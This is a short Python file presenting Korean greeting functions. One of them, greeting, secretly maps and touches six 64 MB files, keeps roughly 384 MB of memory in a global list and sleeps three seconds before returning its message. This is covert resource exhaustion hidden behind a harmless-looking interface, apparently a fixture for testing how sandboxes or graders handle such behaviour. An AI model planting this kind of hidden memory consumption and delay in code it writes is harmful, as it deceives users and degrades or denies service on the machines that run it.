import mmap
import os
import time

HELD = []


def greeting(name: str, age: int) -> str:
    for number in range(6):
        file = os.open("mapped", os.O_CREAT | os.O_RDWR)
        os.ftruncate(file, 2**26)
        HELD.append(mmap.mmap(file, 2**26))
        os.close(file)
        os.unlink("mapped")
        for page in range(0, 2**26, 4096):
            HELD[-1][page] = 1
    time.sleep(3)
    return f"안녕하세요 {name}님! {'성인' if age >= 20 else '청소년'}입니다."


def greeting_program() -> None:
    who = input("이름을 입력하세요: ")
    years = int(input("나이를 입력하세요: "))
    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
